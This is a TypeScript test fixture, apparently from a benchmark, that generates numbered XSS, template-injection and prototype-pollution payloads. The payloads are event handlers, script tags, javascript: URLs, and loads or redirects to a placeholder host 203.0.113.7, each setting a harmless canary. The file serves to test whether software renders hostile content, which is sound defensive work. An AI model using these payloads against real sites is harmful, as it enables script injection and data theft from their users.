// Injection payloads for the hostile-content campaign (bench/reliability, Node only): markup with event
// handlers, script and style tricks, URL schemes, template and prototype tricks, each numbered. Executed, a
// payload sets the canary `window.__pwned` to its number; others would fetch from or navigate to 203.0.113.7
// (TEST-NET-3, never a real host) or open a window, which the campaign counts as well.

export const OFF_HOST = 'http://203.0.113.7';

/** Templates: `{n}` becomes the payload's number, `{js}` the canary assignment, `{off}` the off-host origin. */
const TEMPLATES = [
  '<img src=x onerror={js}>',
  '<img src="x" onerror="{js}">',
  '<svg onload={js}>',
  '<svg><script>{js}</script></svg>',
  '<script>{js}</script>',
  '</p><script>{js}</script><p>',
  '"><img src=x onerror={js}>',
  "'><img src=x onerror={js}>",
  '</textarea><img src=x onerror={js}>',
  '</title><img src=x onerror={js}>',
  '<iframe srcdoc="<script>parent.{js}</script>"></iframe>',
  '<iframe src="javascript:parent.{js}"></iframe>',
  '<body onload={js}>',
  '<details open ontoggle={js}>',
  '<video><source onerror={js}></video>',
  '<audio src=x onerror={js}>',
  '<input autofocus onfocus={js}>',
  '<marquee onstart={js}>',
  '<object data="javascript:{js}"></object>',
  '<embed src="javascript:{js}">',
  '<a href="javascript:{js}">click {n}</a>',
  '[click {n}](javascript:{js})',
  '![img {n}]({off}/md-{n}.png)',
  '<img src="{off}/img-{n}.png">',
  '<script src="{off}/script-{n}.js"></script>',
  '<link rel=stylesheet href="{off}/style-{n}.css">',
  '<style>@import url({off}/import-{n}.css)</style>',
  '<div style="background:url({off}/bg-{n}.png)">{n}</div>',
  '<meta http-equiv="refresh" content="0;url={off}/meta-{n}">',
  '<base href="{off}/base-{n}/">',
  '<form action="{off}/form-{n}"><button>go {n}</button></form>',
  '<math><mtext><script>{js}</script></mtext></math>',
  '{{constructor.constructor("{js}")()}}',
  '${{js}}',
  '`${{js}}`',
  '<!--<img src=x onerror={js}>-->',
  ']]><img src=x onerror={js}>',
  '\u202e<img src=x onerror={js}>',
  'javascript:{js}',
  'data:text/html,<script>{js}</script>',
  '<x onclick={js}>click {n}</x>',
  '__proto__[pwned]={n}',
  'constructor[prototype][pwned]={n}',
  '<img src=x onerror=window.open("{off}/popup-{n}")>',
  '<img src=x onerror=location="{off}/nav-{n}">',
];

export interface Payload {
  n: number;
  text: string;
}

/** `count` payloads cycling through the templates, each with its own number. */
export function payloads(count: number): Payload[] {
  return Array.from({ length: count }, (_, i) => {
    const n = i + 1;
    const template = TEMPLATES[i % TEMPLATES.length] as string;
    const text = template
      .replaceAll('{js}', `__pwned=${n}`)
      .replaceAll('{off}', OFF_HOST)
      .replaceAll('{n}', String(n));
    return { n, text };
  });
}

/** The payload cut to `max` characters (labels and names are short); it may lose its sting, never its shape. */
export function fit(payload: Payload, max: number): string {
  return payload.text.length <= max ? payload.text : payload.text.slice(0, max);
}
